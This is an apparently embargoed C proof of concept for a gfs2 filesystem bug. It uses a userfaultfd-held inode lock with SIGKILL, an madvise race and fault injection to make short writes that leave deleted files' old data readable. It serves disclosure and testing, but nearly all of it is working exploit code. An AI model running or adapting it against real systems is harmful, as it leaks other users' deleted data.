// gfs2 short write into a hole: stale data of a deleted file becomes
// readable (pagelife issue 13; corpus/litmus/gfs2-short-write-stale-alloc).
// pagelife-c: fs=gfs2 blocks=1 privileged=yes tasks=2
//
// NOT FOR PUBLICATION before the gfs2 maintainers and the kernel security
// team have seen docs/reports/gfs2-short-write-stale-data.md.
//
// A buffered write at an unaligned position into a hole makes
// gfs2_iomap_begin() allocate the block (IOMAP_F_NEW; new data blocks are
// not zeroed on disk). When the write then copies nothing (written == 0),
// gfs2_iomap_end() deallocates only from round_up(pos + written): the block
// containing pos stays allocated, holding what the disk held before. Ways
// to get written == 0 after the allocation, each a "trigger" here:
//
//   kill      a fatal signal that arrives while the writer is blocked on
//             the inode lock: the write takes the lock, allocates, and
//             iomap_write_begin() returns -EINTR. The lock is held, for as
//             long as we like, by another thread's write whose source
//             buffer is a userfaultfd page nobody resolves (yet).
//   dontneed  the source buffer (a shared memfd page) is unmapped by
//             another thread (madvise(MADV_DONTNEED)) between gfs2's
//             fault-in and the copy, which runs with page faults disabled:
//             the copy faults, gfs2 faults the buffer in and retries; the
//             retry finds the block allocated (not new) and reads its old
//             contents from disk around the bytes it writes. No error is
//             returned to anyone.
//   alloc     an allocation failure in the write (fail_page_alloc), when
//             the kernel has fault injection (Debian's does not).
//
// Every block the writes target must read as zeros except the bytes
// written; the disk is filled first with marker records ("PL fF ...") of a
// file that is then deleted, so old data is recognised.
//
// Build: gcc -std=c11 -O2 -Wall -Wextra -pthread -o gfs2-short-write this.c
// Run:   ./gfs2-short-write DIR [-m kill|dontneed|alloc|all] [-r ROUNDS]
//          [-t SECONDS] [-f MIB|all] [-w WRITES] [-n]

#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define REC 32
#define WOFF 100 // the write's offset in its block
#define WLEN 200 // and its length

static int dirfd_ = -1;
static size_t bs = 4096;
static int privileged = 1;
static unsigned round_no;


// Write b[0..n) (one message, no newline) wrapped at 79 columns on spaces,
// continuation lines indented by four.
static void write_wrapped(const char *b, size_t n)
{
    char out[1200];
    size_t o = 0, col = 0, i = 0;
    while (i < n && o < sizeof out - 8) {
        size_t w = i;
        while (w < n && b[w] != ' ')
            w++;
        size_t len = w - i;
        if (col > 4 && col + len > 79) {
            while (o > 0 && out[o - 1] == ' ')
                o--;
            out[o++] = '\n';
            memcpy(out + o, "    ", 4);
            o += 4;
            col = 4;
        }
        for (size_t k = 0; k < len && o < sizeof out - 8; k++)
            out[o++] = b[i + k];
        col += len;
        i = w;
        while (i < n && b[i] == ' ' && o < sizeof out - 8) {
            if (col + 1 <= 79)
                out[o++] = ' ';
            col++;
            i++;
        }
    }
    while (o > 0 && out[o - 1] == ' ')
        o--;
    out[o++] = '\n';
    ssize_t r = write(1, out, o);
    (void)r;
}

static void say(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void say(const char *fmt, ...)
{
    char b[512];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(b, sizeof b, fmt, ap);
    va_end(ap);
    if (n < 0)
        return;
    if ((size_t)n > sizeof b - 1)
        n = (int)sizeof b - 1;
    write_wrapped(b, (size_t)n);
}

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void sleep_ms(unsigned ms)
{
    struct timespec t = {ms / 1000, (long)(ms % 1000) * 1000000L};
    nanosleep(&t, NULL);
}

static int root_write(const char *path, const char *val)
{
    if (!privileged)
        return -1;
    int fd = open(path, O_WRONLY);
    if (fd < 0)
        return -1;
    ssize_t n = write(fd, val, strlen(val));
    close(fd);
    return n == (ssize_t)strlen(val) ? 0 : -1;
}

static void fill(long long mib)
{
    if (!mib)
        return;
    int fd = openat(dirfd_, "pl-fill", O_CREAT | O_RDWR | O_TRUNC, 0644);
    if (fd < 0)
        return;
    size_t chunk = 1 << 20;
    char *b = malloc(chunk);
    long long done = 0;
    while (b && (mib < 0 || done < mib)) {
        for (size_t i = 0; i < chunk; i += REC) {
            char t[REC + 8];
            snprintf(t, sizeof t, "PL fF r000000 v000 o%011llu\n",
                     (unsigned long long)(done * (long long)chunk + (long long)i) % 100000000000ULL);
            memcpy(b + i, t, REC);
        }
        if (pwrite(fd, b, chunk, (off_t)(done * (long long)chunk)) != (ssize_t)chunk)
            break;
        done++;
    }
    free(b);
    fsync(fd);
    close(fd);
    unlinkat(dirfd_, "pl-fill", 0);
    sync();
    say("fill: %lld MiB of marker records written, synced and deleted", done);
}

// Stale bytes in block blk of fd (everything outside the written range
// must be zero; the written range, if the write returned WLEN, must be
// 'w'). Returns the count of stale bytes and describes the first.
static long check_block(int fd, long blk, int written, char *what, size_t wsz)
{
    unsigned char *b = calloc(1, bs);
    if (!b)
        return 0;
    ssize_t n = pread(fd, b, bs, (off_t)(blk * (long)bs));
    if (n < 0)
        n = 0;
    long bad = 0;
    long first = -1;
    for (size_t i = 0; i < bs; i++) {
        int in = i >= WOFF && i < WOFF + WLEN;
        int ok = b[i] == 0 || (in && b[i] == 'w');
        if (in && written && b[i] != 'w')
            ok = 0;
        if (!ok) {
            bad++;
            if (first < 0)
                first = (long)i;
        }
    }
    if (bad && what) {
        size_t s = (size_t)first - (size_t)first % REC;
        char rec[REC + 1];
        memcpy(rec, b + s, REC);
        rec[REC] = 0;
        char fc = 0;
        unsigned rr = 0, vv = 0;
        unsigned long long oo = 0;
        if (sscanf(rec, "PL f%c r%u v%u o%llu", &fc, &rr, &vv, &oo) == 4)
            snprintf(what, wsz, "%ld B of %s (@%zu: its offset %llu)", bad,
                     fc == 'F' ? "the deleted fill file" : "another file", s, oo);
        else
            snprintf(what, wsz, "%ld stale bytes, first @%ld: %02x %02x %02x %02x", bad,
                     first, b[first], b[first + 1 < (long)bs ? first + 1 : first],
                     b[first + 2 < (long)bs ? first + 2 : first],
                     b[first + 3 < (long)bs ? first + 3 : first]);
    }
    free(b);
    return bad;
}

static char src_w[WLEN];

// ---- trigger: kill ----

struct holder {
    int fd;
    char *page;
    ssize_t ret;
};

static void *holder_write(void *p)
{
    struct holder *h = p;
    // Holds the inode lock (i_rwsem) while its fault-in waits on the
    // userfaultfd page.
    h->ret = pwrite(h->fd, h->page, WLEN, (off_t)(63 * bs + WOFF));
    return NULL;
}

static char proc_state(pid_t pid)
{
    char p[64], b[256];
    snprintf(p, sizeof p, "/proc/%d/stat", (int)pid);
    int fd = open(p, O_RDONLY);
    if (fd < 0)
        return '?';
    ssize_t n = read(fd, b, sizeof b - 1);
    close(fd);
    if (n <= 0)
        return '?';
    b[n] = 0;
    char *r = strrchr(b, ')');
    return r && r[1] && r[2] ? r[2] : '?';
}

static int uffd_missing;

// One round: returns stale blocks found (0 or 1), -1 if the trigger cannot run.
static int round_kill(int fd, long blk, char *what, size_t wsz)
{
    long ufd = syscall(SYS_userfaultfd, O_CLOEXEC);
    if (ufd < 0) {
        if (!uffd_missing++)
            say("note: kill: userfaultfd unavailable (%s); trigger skipped", strerror(errno));
        return -1;
    }
    struct uffdio_api api = {.api = UFFD_API, .features = 0};
    size_t ps = (size_t)sysconf(_SC_PAGESIZE);
    char *page = mmap(NULL, ps, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    struct uffdio_register reg = {.range = {.start = (uintptr_t)page, .len = ps},
                                  .mode = UFFDIO_REGISTER_MODE_MISSING};
    if (ioctl((int)ufd, UFFDIO_API, &api) != 0 || page == MAP_FAILED ||
        ioctl((int)ufd, UFFDIO_REGISTER, &reg) != 0) {
        if (!uffd_missing++)
            say("note: kill: userfaultfd register failed (%s); skipped", strerror(errno));
        close((int)ufd);
        return -1;
    }
    struct holder h = {.fd = fd, .page = page};
    pthread_t th;
    pthread_create(&th, NULL, holder_write, &h);
    sleep_ms(20); // the holder is now blocked in its fault-in, i_rwsem held
    pid_t v = fork();
    if (v == 0) {
        ssize_t r = pwrite(fd, src_w, WLEN, (off_t)(blk * (long)bs + WOFF));
        _exit(r == WLEN ? 0 : 3);
    }
    char st = '?';
    for (int i = 0; i < 200; i++) {
        st = proc_state(v);
        if (st == 'D')
            break;
        sleep_ms(1);
    }
    kill(v, SIGKILL); // delivered while it waits for the inode lock
    sleep_ms(5);
    struct uffdio_zeropage zp = {.range = {.start = (uintptr_t)page, .len = ps}};
    ioctl((int)ufd, UFFDIO_ZEROPAGE, &zp); // the holder goes on, drops i_rwsem
    pthread_join(th, NULL);
    int status = 0;
    waitpid(v, &status, 0);
    int killed = WIFSIGNALED(status);
    munmap(page, ps);
    close((int)ufd);
    long bad = check_block(fd, blk, !killed, what, wsz);
    if (!bad && root_write("/proc/sys/vm/drop_caches", "3") == 0)
        bad = check_block(fd, blk, !killed, what, wsz);
    if (bad && killed && st != 'D') {
        size_t l = strlen(what);
        snprintf(what + l, wsz - l, " (victim state %c)", st);
    }
    return bad > 0;
}

// ---- trigger: dontneed ----

static volatile int stop_unmap;

struct unmapper {
    char *src;
    size_t len;
};

static void *unmapper(void *p)
{
    struct unmapper *u = p;
    while (!__atomic_load_n(&stop_unmap, __ATOMIC_RELAXED))
        madvise(u->src, u->len, MADV_DONTNEED);
    return NULL;
}

static int round_dontneed(int fd, long nblocks, char *what, size_t wsz, long *bad_blocks)
{
    size_t ps = (size_t)sysconf(_SC_PAGESIZE);
    int mfd = (int)syscall(SYS_memfd_create, "pl-src", 0);
    if (mfd < 0 || ftruncate(mfd, (off_t)ps) != 0) {
        say("note: dontneed: memfd_create failed (%s); skipped", strerror(errno));
        return -1;
    }
    char *src = mmap(NULL, ps, PROT_READ | PROT_WRITE, MAP_SHARED, mfd, 0);
    if (src == MAP_FAILED) {
        close(mfd);
        return -1;
    }
    memset(src, 'w', ps);
    struct unmapper u = {src, ps};
    pthread_t th;
    stop_unmap = 0;
    pthread_create(&th, NULL, unmapper, &u);
    long short_writes = 0;
    for (long b = 0; b < nblocks; b++) {
        ssize_t r = pwrite(fd, src, WLEN, (off_t)(b * (long)bs + WOFF));
        short_writes += r != WLEN;
    }
    __atomic_store_n(&stop_unmap, 1, __ATOMIC_RELAXED);
    pthread_join(th, NULL);
    munmap(src, ps);
    close(mfd);
    fsync(fd);
    root_write("/proc/sys/vm/drop_caches", "3");
    long bad = 0;
    for (long b = 0; b < nblocks; b++) {
        char w[160];
        if (check_block(fd, b, 1, bad ? NULL : w, sizeof w)) {
            if (!bad)
                snprintf(what, wsz, "block %ld: %s", b, w);
            bad++;
        }
    }
    *bad_blocks = bad;
    if (short_writes)
        say("  round %u dontneed: %ld of %ld writes returned less than %d", round_no,
            short_writes, nblocks, WLEN);
    return bad > 0;
}

// ---- trigger: alloc ----

static int round_alloc(int fd, long blk, char *what, size_t wsz)
{
    const char *fi = "/sys/kernel/debug/fail_page_alloc";
    char p[128];
    snprintf(p, sizeof p, "%s/probability", fi);
    if (access(p, F_OK) != 0)
        return -1;
    const char *kv[][2] = {{"task-filter", "Y"}, {"probability", "100"}, {"interval", "1"},
                           {"times", "1"},       {"ignore-gfp-wait", "N"}};
    for (size_t k = 0; k < sizeof kv / sizeof kv[0]; k++) {
        snprintf(p, sizeof p, "%s/%s", fi, kv[k][0]);
        root_write(p, kv[k][1]);
    }
    root_write("/proc/thread-self/make-it-fail", "1");
    ssize_t r = pwrite(fd, src_w, WLEN, (off_t)(blk * (long)bs + WOFF));
    root_write("/proc/thread-self/make-it-fail", "0");
    long bad = check_block(fd, blk, r == WLEN, what, wsz);
    if (!bad && root_write("/proc/sys/vm/drop_caches", "3") == 0)
        bad = check_block(fd, blk, r == WLEN, what, wsz);
    return bad > 0;
}

static int kmsg = -1;

static int scan_kmsg(void)
{
    static const char *pat[] = {"BUG:", "WARNING:", "KASAN", "blocked for more than",
                                "Oops", "withdraw", "Call Trace"};
    char rec[2048];
    int hits = 0;
    while (kmsg >= 0) {
        ssize_t n = read(kmsg, rec, sizeof rec - 1);
        if (n < 0 && errno == EPIPE)
            continue;
        if (n <= 0)
            break;
        rec[n] = 0;
        char *m = strchr(rec, ';');
        m = m ? m + 1 : rec;
        char *nl = strchr(m, '\n');
        if (nl)
            *nl = 0;
        for (size_t i = 0; i < sizeof pat / sizeof pat[0]; i++)
            if (strstr(m, pat[i])) {
                say("  KERNEL %.70s", m);
                hits++;
                break;
            }
    }
    return hits;
}

int main(int argc, char **argv)
{
    const char *dir = NULL, *mode = "all";
    long long rounds = 20, secs = 0, fillmib = -1, writes = 2000;
    for (int i = 1; i < argc; i++) {
        const char *a = argv[i];
        if (!strcmp(a, "-n")) {
            privileged = 0;
            continue;
        }
        if (a[0] == '-' && a[1] && !a[2] && strchr("mrtfwb", a[1])) {
            if (i + 1 >= argc) {
                fprintf(stderr, "error: %s needs a value\n", a);
                return 2;
            }
            const char *v = argv[++i];
            if (a[1] == 'm') {
                if (strcmp(v, "kill") && strcmp(v, "dontneed") && strcmp(v, "alloc") &&
                    strcmp(v, "all")) {
                    fprintf(stderr, "error: -m expects kill, dontneed, alloc or all, got"
                            " '%s'\n", v);
                    return 2;
                }
                mode = v;
                continue;
            }
            if (a[1] == 'f' && !strcmp(v, "all")) {
                fillmib = -1;
                continue;
            }
            char *end;
            long long x = strtoll(v, &end, 10);
            if (end == v || *end || x < 0) {
                fprintf(stderr, "error: %s expects a non-negative number, got '%s'\n", a, v);
                return 2;
            }
            switch (a[1]) {
            case 'r': rounds = x; break;
            case 't': secs = x; break;
            case 'f': fillmib = x; break;
            case 'w': writes = x; break;
            case 'b': bs = (size_t)x; break;
            }
            continue;
        }
        if (a[0] == '-' || dir) {
            fprintf(stderr, "usage: %s DIR [-m kill|dontneed|alloc|all] [-r ROUNDS]"
                    " [-t SECONDS] [-f MIB|all] [-w WRITES] [-b BS] [-n]\n", argv[0]);
            return 2;
        }
        dir = a;
    }
    if (!dir) {
        fprintf(stderr, "usage: %s DIR [-m kill|dontneed|alloc|all] [-r ROUNDS]"
                " [-t SECONDS] [-f MIB|all] [-w WRITES] [-b BS] [-n]\n"
                "exit status: 0 clean, 1 confirmed, 2 usage or setup error\n", argv[0]);
        return 2;
    }
    dirfd_ = open(dir, O_RDONLY | O_DIRECTORY);
    if (dirfd_ < 0) {
        fprintf(stderr, "error: %s: not a directory we can open: %s\n", dir, strerror(errno));
        return 2;
    }
    struct stat st;
    if (bs == 4096 && fstat(dirfd_, &st) == 0)
        bs = (size_t)st.st_blksize;
    if (bs < 512) {
        fprintf(stderr, "error: block size %zu: expected at least 512\n", bs);
        return 2;
    }
    setvbuf(stdout, NULL, _IONBF, 0);
    memset(src_w, 'w', sizeof src_w);
    kmsg = open("/dev/kmsg", O_RDONLY | O_NONBLOCK);
    if (kmsg >= 0)
        lseek(kmsg, 0, SEEK_END);
    say("gfs2-short-write: %s, block %zu, trigger %s, write %d bytes at +%d", dir, bs, mode,
        WLEN, WOFF);
    fill(fillmib);
    int do_kill = !strcmp(mode, "kill") || !strcmp(mode, "all");
    int do_dn = !strcmp(mode, "dontneed") || !strcmp(mode, "all");
    int do_alloc = !strcmp(mode, "alloc") || !strcmp(mode, "all");
    int alloc_noted = 0;
    long long done = 0, confirmed = 0, c_kill = 0, c_dn = 0, c_alloc = 0, kern = 0;
    long dn_blocks = 0, dn_bad = 0;
    double t0 = now();
    for (long long r = 1; r <= rounds; r++) {
        if (secs && now() - t0 >= (double)secs)
            break;
        round_no = (unsigned)r;
        char name[32];
        snprintf(name, sizeof name, "pl-victim-%lld", r);
        int fd = openat(dirfd_, name, O_CREAT | O_RDWR | O_TRUNC, 0644);
        long nb = writes > 64 ? (long)writes : 64;
        if (fd < 0 || ftruncate(fd, (off_t)(nb * (long)bs)) != 0) {
            say("error: cannot create %s: %s", name, strerror(errno));
            return 2;
        }
        int any = 0;
        char what[200];
        if (do_kill) {
            what[0] = 0;
            int v = round_kill(fd, 1, what, sizeof what);
            if (v > 0) {
                c_kill++;
                any = 1;
                say("round %lld kill: STALE block 1: %s", r, what);
            } else if (v == 0) {
                say("round %lld kill: clean", r);
            }
        }
        if (do_alloc) {
            what[0] = 0;
            int v = round_alloc(fd, 2, what, sizeof what);
            if (v < 0 && !alloc_noted++)
                say("note: alloc: no fail_page_alloc in debugfs (CONFIG_FAIL_PAGE_ALLOC);"
                    " skipped");
            if (v > 0) {
                c_alloc++;
                any = 1;
                say("round %lld alloc: STALE block 2: %.56s", r, what);
            } else if (v == 0) {
                say("round %lld alloc: clean", r);
            }
        }
        close(fd);
        if (do_dn) {
            // A fresh file: every block a hole.
            snprintf(name, sizeof name, "pl-dontneed-%lld", r);
            fd = openat(dirfd_, name, O_CREAT | O_RDWR | O_TRUNC, 0644);
            if (fd < 0 || ftruncate(fd, (off_t)(writes * (long long)bs)) != 0) {
                say("error: cannot create %s: %s", name, strerror(errno));
                return 2;
            }
            long bad = 0;
            what[0] = 0;
            int v = round_dontneed(fd, (long)writes, what, sizeof what, &bad);
            dn_blocks += (long)writes;
            dn_bad += bad;
            if (v > 0) {
                c_dn++;
                any = 1;
                say("round %lld dontneed: STALE %ld/%lld blocks; %s", r, bad, writes, what);
            } else if (v == 0) {
                say("round %lld dontneed: clean (%lld blocks)", r, writes);
            }
            close(fd);
        }
        int k = scan_kmsg();
        kern += k;
        any |= k > 0;
        done++;
        confirmed += any;
        // Delete this round's files: their blocks are next round's old data.
        unlinkat(dirfd_, "pl-victim-1", 0);
        if (r > 1) {
            snprintf(name, sizeof name, "pl-victim-%lld", r - 1);
            unlinkat(dirfd_, name, 0);
            snprintf(name, sizeof name, "pl-dontneed-%lld", r - 1);
            unlinkat(dirfd_, name, 0);
        }
    }
    for (long long r = done; r <= done + 1; r++) {
        char name[32];
        snprintf(name, sizeof name, "pl-victim-%lld", r);
        unlinkat(dirfd_, name, 0);
        snprintf(name, sizeof name, "pl-dontneed-%lld", r);
        unlinkat(dirfd_, name, 0);
    }
    double dt = now() - t0;
    say("summary: %lld rounds in %.1f s, %lld confirmed (kill %lld, dontneed %lld,"
        " alloc %lld)", done, dt, confirmed, c_kill, c_dn, c_alloc);
    if (do_dn)
        say("  dontneed: %ld of %ld written blocks hold stale data", dn_bad, dn_blocks);
    say("  kernel log lines: %lld", kern);
    say("pagelife-result rounds=%lld confirmed=%lld s=%.1f", done, confirmed, dt);
    return confirmed ? 1 : 0;
}
